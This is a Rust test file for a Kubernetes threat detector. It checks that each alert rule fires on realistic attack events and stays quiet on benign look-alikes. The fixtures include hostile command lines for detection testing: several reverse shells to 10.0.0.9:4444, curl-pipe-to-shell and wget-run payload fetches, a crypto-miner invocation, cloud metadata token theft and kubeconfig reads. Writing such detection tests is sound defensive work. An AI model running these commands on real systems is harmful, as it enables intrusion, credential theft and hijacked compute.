//! Every built-in catalog rule: realistic events that must fire and look-alikes that must not.

mod common;

use common::*;
use serde_json::json;

fn has(events: &[serde_json::Value], ty: &str) -> bool {
    fire(events).iter().any(|t| t == ty)
}

fn fires(ty: &str, events: &[serde_json::Value]) {
    let got = fire(events);
    assert!(got.iter().any(|t| t == ty), "{ty} did not fire; got {got:?}");
}

fn quiet(ty: &str, events: &[serde_json::Value]) {
    let got = fire(events);
    assert!(!got.iter().any(|t| t == ty), "{ty} fired on a look-alike; got {got:?}");
}

#[test]
fn test_alert_from_kubectl_get_pods() {
    let ns = "asc-alerttest-662jfi039n";
    let ev = audit("list", "pods", Some(ns), None)
        .uri("/api/v1/namespaces/asc-alerttest-662jfi039n/pods?limit=500")
        .metadata_level()
        .v();
    let a = alerts(&[ev]);
    let t = a.iter().find(|a| a.alert_type == "K8S_TestAlert").expect("K8S_TestAlert");
    assert_eq!(t.alert_severity, "Low");
    assert!(t.entities.iter().any(|e| e["Type"] == "K8s-namespace" && e["Name"] == ns));
    assert!(t.entities.iter().any(|e| e["Type"] == "ip" && e["Address"] == "20.50.1.7"));
    assert!(t.entities.iter().any(|e| e["Type"] == "account" && e["Name"] == "alice@contoso.com"));
    assert_eq!(t.status, "New");
    assert_eq!(t.provider_name, "keelwatch");
    quiet("K8S_TestAlert", &[audit("list", "pods", Some("asc-alerttest"), None).metadata_level().v()]);
}

#[test]
fn eicar_node_test_alert() {
    let ev = process(&["./asc_alerttest_662jfi039n", "testing", "eicar", "pipe"], "/app/asc_alerttest_662jfi039n");
    let a = alerts(&[ev]);
    let t = a.iter().find(|a| a.alert_type == "K8S.NODE_EICAR").expect("EICAR");
    assert_eq!(t.alert_severity, "High");
    assert_eq!(t.compromised_entity, "shop/pods/web-7d9c5b7f4-x2x9z");
    assert!(
        t.entities
            .iter()
            .any(|e| e["Type"] == "process" && e["CommandLine"] == "./asc_alerttest_662jfi039n testing eicar pipe")
    );
    assert!(t.entities.iter().any(|e| e["Type"] == "host"));
    quiet("K8S.NODE_EICAR", &[process(&["echo", "testing", "eicar", "pipe"], "/bin/echo")]);
}

#[test]
fn privileged_container() {
    let p = pod("debug", "default", &[("c", "ubuntu:22.04", true)], json!({}));
    fires("K8S_PrivilegedContainer", &[audit("create", "pods", Some("default"), Some("debug")).req(p.clone()).v()]);
    let d = deployment(
        "agent",
        "tools",
        &[("c", "contoso.azurecr.io/agent:2", false)],
        json!({"initContainers": [{"name": "init", "image": "busybox", "securityContext": {"privileged": true}}]}),
    );
    fires("K8S_PrivilegedContainer", &[audit("create", "deployments", Some("tools"), Some("agent")).req(d).v()]);
    // Look-alikes: not privileged; created by the ReplicaSet controller; a usual system image;
    // denied by admission.
    quiet(
        "K8S_PrivilegedContainer",
        &[audit("create", "pods", Some("default"), Some("web"))
            .req(pod("web", "default", &[("c", "nginx:1.25", false)], json!({})))
            .v()],
    );
    quiet(
        "K8S_PrivilegedContainer",
        &[audit("create", "pods", Some("default"), Some("debug"))
            .user("system:serviceaccount:kube-system:replicaset-controller")
            .req(p.clone())
            .v()],
    );
    quiet(
        "K8S_PrivilegedContainer",
        &[audit("create", "daemonsets", Some("kube-system"), Some("kube-proxy"))
            .req(deployment(
                "kube-proxy",
                "kube-system",
                &[("kube-proxy", "mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.29.2", true)],
                json!({}),
            ))
            .v()],
    );
    quiet("K8S_PrivilegedContainer", &[audit("create", "pods", Some("default"), Some("debug")).code(403).req(p).v()]);
}

#[test]
fn sensitive_mount() {
    let vols = |path: &str| json!({"volumes": [{"name": "h", "hostPath": {"path": path, "type": ""}}]});
    fires(
        "K8S_SensitiveMount",
        &[audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", false)], vols("/var/run/docker.sock")))
            .v()],
    );
    fires(
        "K8S_SensitiveMount",
        &[audit("create", "deployments", Some("default"), Some("x"))
            .req(deployment("x", "default", &[("c", "alpine", false)], vols("/")))
            .v()],
    );
    quiet(
        "K8S_SensitiveMount",
        &[audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", false)], vols("/var/log/app")))
            .v()],
    );
    quiet(
        "K8S_SensitiveMount",
        &[audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", false)], json!({"volumes": [{"name": "d", "emptyDir": {}}]})))
            .v()],
    );
}

#[test]
fn kube_system_container() {
    fires(
        "K8S_KubeSystemContainer",
        &[audit("create", "deployments", Some("kube-system"), Some("metrics-helper"))
            .req(deployment(
                "metrics-helper",
                "kube-system",
                &[("c", "docker.io/attacker/backdoor:1", false)],
                json!({}),
            ))
            .v()],
    );
    quiet(
        "K8S_KubeSystemContainer",
        &[audit("create", "deployments", Some("kube-system"), Some("coredns"))
            .req(deployment(
                "coredns",
                "kube-system",
                &[("coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.11.1", false)],
                json!({}),
            ))
            .v()],
    );
    quiet(
        "K8S_KubeSystemContainer",
        &[audit("create", "deployments", Some("default"), Some("x"))
            .req(deployment("x", "default", &[("c", "docker.io/attacker/backdoor:1", false)], json!({})))
            .v()],
    );
}

#[test]
fn cluster_admin_binding() {
    let crb = |role: &str| {
        json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ops"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"kind": "ServiceAccount", "name": "ci", "namespace": "build"}]})
    };
    fires(
        "K8S_ClusterAdminBinding",
        &[audit("create", "clusterrolebindings", None, Some("ops")).req(crb("cluster-admin")).v()],
    );
    quiet("K8S_ClusterAdminBinding", &[audit("create", "clusterrolebindings", None, Some("ops")).req(crb("view")).v()]);
    quiet(
        "K8S_ClusterAdminBinding",
        &[audit("get", "clusterrolebindings", None, Some("ops")).req(crb("cluster-admin")).v()],
    );
}

#[test]
fn high_privileges_role() {
    let role = |verbs: serde_json::Value, resources: serde_json::Value| {
        json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "r"}, "rules": [{"apiGroups": [""], "resources": resources, "verbs": verbs}]})
    };
    fires(
        "K8S_HighPrivilegesRole",
        &[audit("create", "clusterroles", None, Some("r")).req(role(json!(["*"]), json!(["pods"]))).v()],
    );
    fires(
        "K8S_HighPrivilegesRole",
        &[audit("create", "roles", Some("dev"), Some("r")).req(role(json!(["impersonate"]), json!(["users"]))).v()],
    );
    quiet(
        "K8S_HighPrivilegesRole",
        &[audit("create", "clusterroles", None, Some("r"))
            .req(role(json!(["get", "list", "watch"]), json!(["pods"])))
            .v()],
    );
    quiet(
        "K8S_HighPrivilegesRole",
        &[audit("update", "clusterroles", None, Some("admin"))
            .user("system:serviceaccount:kube-system:clusterrole-aggregation-controller")
            .req(role(json!(["*"]), json!(["*"])))
            .v()],
    );
}

#[test]
fn admission_controller() {
    let hook = json!({"kind": "MutatingWebhookConfiguration", "metadata": {"name": "inject"}, "webhooks": [{"name": "inject.evil.io", "clientConfig": {"url": "https://evil.io/m"}}]});
    fires(
        "K8S_AdmissionController",
        &[audit("create", "mutatingwebhookconfigurations", None, Some("inject")).req(hook.clone()).v()],
    );
    quiet(
        "K8S_AdmissionController",
        &[audit("patch", "mutatingwebhookconfigurations", None, Some("inject"))
            .user("system:serviceaccount:cert-manager:cert-manager-cainjector")
            .req(hook)
            .v()],
    );
}

#[test]
fn delete_events() {
    fires("K8S_DeleteEvents", &[audit("deletecollection", "events", Some("prod"), None).metadata_level().v()]);
    quiet(
        "K8S_DeleteEvents",
        &[audit("deletecollection", "events", Some("old"), None)
            .user("system:serviceaccount:kube-system:namespace-controller")
            .metadata_level()
            .v()],
    );
    quiet("K8S_DeleteEvents", &[audit("list", "events", Some("prod"), None).metadata_level().v()]);
}

#[test]
fn coredns_modification() {
    let cm = json!({"kind": "ConfigMap", "metadata": {"name": "coredns", "namespace": "kube-system"}, "data": {"Corefile": ".:53 { forward . 6.6.6.6 }"}});
    fires(
        "K8S_CoreDnsModification",
        &[audit("patch", "configmaps", Some("kube-system"), Some("coredns")).req(cm.clone()).v()],
    );
    quiet(
        "K8S_CoreDnsModification",
        &[audit("get", "configmaps", Some("kube-system"), Some("coredns")).metadata_level().v()],
    );
    quiet("K8S_CoreDnsModification", &[audit("update", "configmaps", Some("default"), Some("coredns")).req(cm).v()]);
}

#[test]
fn exposed_dashboard_and_services() {
    let dash = service(
        "kubernetes-dashboard",
        "kubernetes-dashboard",
        "LoadBalancer",
        &[443],
        json!({}),
        json!({"k8s-app": "kubernetes-dashboard"}),
    );
    let a = alerts(&[audit("create", "services", Some("kubernetes-dashboard"), Some("kubernetes-dashboard"))
        .req(dash)
        .v()]);
    let d = a.iter().find(|a| a.alert_type == "K8S_ExposedDashboard").expect("dashboard");
    assert_eq!(d.alert_severity, "High");
    assert!(!a.iter().any(|a| a.alert_type == "K8S_ExposedService"));
    quiet(
        "K8S_ExposedDashboard",
        &[audit("create", "services", Some("kubernetes-dashboard"), Some("kubernetes-dashboard"))
            .req(service(
                "kubernetes-dashboard",
                "kubernetes-dashboard",
                "ClusterIP",
                &[443],
                json!({}),
                json!({"k8s-app": "kubernetes-dashboard"}),
            ))
            .v()],
    );
    quiet(
        "K8S_ExposedDashboard",
        &[audit("create", "services", Some("kubernetes-dashboard"), Some("kubernetes-dashboard"))
            .req(service(
                "kubernetes-dashboard",
                "kubernetes-dashboard",
                "LoadBalancer",
                &[443],
                json!({"service.beta.kubernetes.io/azure-load-balancer-internal": "true"}),
                json!({"k8s-app": "kubernetes-dashboard"}),
            ))
            .v()],
    );

    fires(
        "K8S_ExposedService",
        &[audit("create", "services", Some("cache"), Some("cache"))
            .req(service("cache", "cache", "LoadBalancer", &[6379], json!({}), json!({"app": "cache"})))
            .v()],
    );
    fires(
        "K8S_ExposedService",
        &[audit("create", "services", Some("db"), Some("postgres-primary"))
            .req(service("postgres-primary", "db", "LoadBalancer", &[5433], json!({}), json!({"app": "pg"})))
            .v()],
    );
    quiet(
        "K8S_ExposedService",
        &[audit("create", "services", Some("web"), Some("frontend"))
            .req(service("frontend", "web", "LoadBalancer", &[80, 443], json!({}), json!({"app": "web"})))
            .v()],
    );
    quiet(
        "K8S_ExposedService",
        &[audit("create", "services", Some("cache"), Some("redis"))
            .req(service("redis", "cache", "ClusterIP", &[6379], json!({}), json!({"app": "redis"})))
            .v()],
    );
}

#[test]
fn malicious_image_and_kube_hunter() {
    fires(
        "K8S_MaliciousContainerImage",
        &[audit("create", "pods", Some("default"), Some("m"))
            .req(pod("m", "default", &[("c", "docker.io/xmrig/xmrig:6.21.0", false)], json!({})))
            .v()],
    );
    quiet(
        "K8S_MaliciousContainerImage",
        &[audit("create", "pods", Some("default"), Some("m"))
            .req(pod("m", "default", &[("c", "nginx:1.25", false)], json!({})))
            .v()],
    );
    fires(
        "K8S_PenTestToolsKubeHunter",
        &[audit("list", "pods", Some("default"), None).ua("kube-hunter/0.6.8").metadata_level().v()],
    );
    fires(
        "K8S_PenTestToolsKubeHunter",
        &[audit("create", "pods", Some("default"), Some("kh"))
            .req(pod("kh", "default", &[("c", "aquasec/kube-hunter:0.6.8", false)], json!({})))
            .v()],
    );
    quiet("K8S_PenTestToolsKubeHunter", &[audit("list", "pods", Some("default"), None).metadata_level().v()]);
}

#[test]
fn exec_into_container_once_per_request() {
    let started = audit("create", "pods", Some("shop"), Some("web-1"))
        .sub("exec", "?command=sh&command=-c&command=id&container=web&stdin=true&tty=true")
        .stage("ResponseStarted")
        .code(101)
        .metadata_level()
        .v();
    let mut completed = started.clone();
    completed["stage"] = json!("ResponseComplete");
    let a = alerts(&[started.clone(), completed]);
    let execs: Vec<_> = a.iter().filter(|a| a.alert_type == "K8S_ExecIntoContainer").collect();
    assert_eq!(execs.len(), 1, "one alert per request across stages");
    let msg = execs[0].extended_properties["Message"].as_str().unwrap();
    assert!(msg.contains("command=sh") && msg.contains("container=web"), "{msg}");
    // EKS logs exec as `get`.
    let mut eks = started;
    eks["verb"] = json!("get");
    eks["auditID"] = json!("eks-1");
    fires("K8S_ExecIntoContainer", &[eks]);
    quiet(
        "K8S_ExecIntoContainer",
        &[audit("get", "pods", Some("shop"), Some("web-1")).sub("log", "?container=web").metadata_level().v()],
    );
}

#[test]
fn port_forward() {
    fires(
        "K8S_PortForward",
        &[audit("create", "pods", Some("db"), Some("pg-0"))
            .sub("portforward", "?ports=5432")
            .code(101)
            .metadata_level()
            .v()],
    );
    quiet("K8S_PortForward", &[audit("get", "pods", Some("db"), Some("pg-0")).sub("proxy", "").metadata_level().v()]);
}

#[test]
fn anonymous_access() {
    let anon = |uri: &str, decision: &str| {
        audit("get", "secrets", Some("default"), None)
            .user("system:anonymous")
            .uri(uri)
            .decision(decision)
            .metadata_level()
            .v()
    };
    fires("K8S_AnonymousAccess", &[anon("/api/v1/namespaces/default/secrets", "allow")]);
    let mut health = audit("get", "pods", None, None).user("system:anonymous").uri("/healthz").metadata_level().v();
    health.as_object_mut().unwrap().remove("objectRef");
    quiet("K8S_AnonymousAccess", &[health]);
    quiet("K8S_AnonymousAccess", &[anon("/api/v1/namespaces/default/secrets", "forbid")]);
}

#[test]
fn node_port_service() {
    fires(
        "K8S_NodePortService",
        &[audit("create", "services", Some("web"), Some("web-np"))
            .req(service("web-np", "web", "NodePort", &[80], json!({}), json!({"app": "web"})))
            .v()],
    );
    quiet(
        "K8S_NodePortService",
        &[audit("create", "services", Some("web"), Some("web"))
            .req(service("web", "web", "ClusterIP", &[80], json!({}), json!({"app": "web"})))
            .v()],
    );
}

#[test]
fn host_namespaces() {
    fires(
        "K8S_HostNamespaces",
        &[audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", false)], json!({"hostPID": true})))
            .v()],
    );
    fires(
        "K8S_HostNamespaces",
        &[audit("create", "daemonsets", Some("mon"), Some("x"))
            .req(deployment("x", "mon", &[("c", "contoso/agent", false)], json!({"hostNetwork": true})))
            .v()],
    );
    quiet(
        "K8S_HostNamespaces",
        &[audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", false)], json!({"hostNetwork": false})))
            .v()],
    );
    quiet(
        "K8S_HostNamespaces",
        &[audit("create", "daemonsets", Some("kube-system"), Some("kube-proxy"))
            .req(deployment(
                "kube-proxy",
                "kube-system",
                &[("c", "registry.k8s.io/kube-proxy:v1.29.2", true)],
                json!({"hostNetwork": true}),
            ))
            .v()],
    );
}

#[test]
fn configmap_credentials() {
    let cm = |data: serde_json::Value| json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "app", "namespace": "shop"}, "data": data});
    let a = alerts(&[audit("create", "configmaps", Some("shop"), Some("app"))
        .req(cm(json!({"DB_PASSWORD": "Sup3r-s3cret!", "DB_HOST": "pg"})))
        .v()]);
    let c = a.iter().find(|a| a.alert_type == "K8S_ConfigMapCredentials").expect("configmap credentials");
    let text = serde_json::to_string(c).unwrap();
    assert!(!text.contains("Sup3r-s3cret!"), "alert must not carry the credential: {text}");
    assert!(text.contains("DB_PASSWORD"));
    fires(
        "K8S_ConfigMapCredentials",
        &[audit("update", "configmaps", Some("shop"), Some("app"))
            .req(cm(json!({"tls.key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE...\n-----END RSA PRIVATE KEY-----"})))
            .v()],
    );
    quiet(
        "K8S_ConfigMapCredentials",
        &[audit("create", "configmaps", Some("shop"), Some("app"))
            .req(cm(json!({"password_min_length": "12", "LOG_LEVEL": "info"})))
            .v()],
    );
    quiet(
        "K8S_ConfigMapCredentials",
        &[audit("create", "configmaps", Some("shop"), Some("kube-root-ca.crt"))
            .req(cm(json!({"ca.crt": "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----"})))
            .v()],
    );
}

#[test]
fn node_rules_fire_and_look_alikes_stay_quiet() {
    // (alert type, argv, exe, look-alike argv, look-alike exe)
    type Case<'a> = (&'a str, &'a [&'a str], &'a str, &'a [&'a str], &'a str);
    let cases: &[Case] = &[
        (
            "K8S.NODE_DigitalCurrencyMining",
            &["xmrig", "--donate-level", "1", "-o", "pool.supportxmr.com:443"],
            "/tmp/xmrig",
            &["grep", "xmrig", "/var/log/syslog"],
            "/bin/grep",
        ),
        (
            "K8S.NODE_DigitalCurrencyMining",
            &["./kworker", "-a", "rx/0", "-o", "stratum+tcp://pool.example:3333"],
            "/tmp/kworker",
            &["curl", "https://example.com/stratum"],
            "/usr/bin/curl",
        ),
        (
            "K8S.NODE_ReverseShell",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
            "/bin/bash",
            &["bash", "-c", "echo hi > /dev/null"],
            "/bin/bash",
        ),
        (
            "K8S.NODE_ReverseShell",
            &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"],
            "/bin/bash",
            // A readiness probe opening a TCP port through bash is not a shell on a socket.
            &["bash", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"],
            "/bin/bash",
        ),
        (
            "K8S.NODE_ReverseShell",
            &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
            "/bin/nc",
            &["nc", "-zv", "db", "5432"],
            "/bin/nc",
        ),
        (
            "K8S.NODE_ReverseShell",
            &[
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            ],
            "/usr/bin/python3",
            &["python3", "-c", "import socket; print(socket.gethostname())"],
            "/usr/bin/python3",
        ),
        (
            "K8S.NODE_DownloadAndRunCombo",
            &["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"],
            "/bin/sh",
            &["sh", "-c", "curl -fsSL http://example.com/data.json -o /tmp/data.json"],
            "/bin/sh",
        ),
        (
            "K8S.NODE_DownloadAndRunCombo",
            &["bash", "-c", "wget -q http://203.0.113.5/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"],
            "/bin/bash",
            &["bash", "-c", "wget -q http://example.com/index.html"],
            "/bin/bash",
        ),
        (
            "K8S.NODE_SuspectNohup",
            &["nohup", "/tmp/.cache/.k", "-d"],
            "/usr/bin/nohup",
            &["nohup", "/usr/local/bin/app", "--serve"],
            "/usr/bin/nohup",
        ),
        (
            "K8S.NODE_SuspectUserAddition",
            &["useradd", "-m", "-s", "/bin/bash", "sysadm"],
            "/usr/sbin/useradd",
            &["id", "sysadm"],
            "/usr/bin/id",
        ),
        (
            "K8S.NODE_HistoryFileCleared",
            &["bash", "-c", "history -c"],
            "/bin/bash",
            &["bash", "-c", "history | tail"],
            "/bin/bash",
        ),
        (
            "K8S.NODE_HistoryFileCleared",
            &["rm", "-f", "/root/.bash_history"],
            "/bin/rm",
            &["cat", "/root/.bash_history"],
            "/bin/cat",
        ),
        (
            "K8S.NODE_ImdsCall",
            &[
                "curl",
                "-H",
                "Metadata:true",
                "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/",
            ],
            "/usr/bin/curl",
            &["curl", "http://10.0.0.1/metadata"],
            "/usr/bin/curl",
        ),
        (
            "K8S.NODE_KubeConfigAccess",
            &["cat", "/var/lib/kubelet/kubeconfig"],
            "/bin/cat",
            &[
                "/usr/local/bin/kubelet",
                "--kubeconfig=/var/lib/kubelet/kubeconfig",
                "--config=/var/lib/kubelet/config.yaml",
            ],
            "/usr/local/bin/kubelet",
        ),
    ];
    for (ty, argv, exe, look_argv, look_exe) in cases {
        fires(ty, &[process(argv, exe)]);
        let got = fire(&[process(look_argv, look_exe)]);
        assert!(got.is_empty(), "look-alike {look_argv:?} raised {got:?}");
    }
}

#[test]
fn every_catalog_rule_is_covered_here() {
    // Guard: a new catalog rule must get a test in this file.
    let source = include_str!("catalog.rs");
    let rules = keelwatch_detect::rules::load_rules(true, &[]).unwrap();
    for r in rules.rules() {
        assert!(source.contains(&format!("\"{}\"", r.name)), "no test mentions {}", r.name);
    }
    assert!(has(&[process(&["./asc_alerttest_662jfi039n"], "")], "K8S.NODE_EICAR"));
}
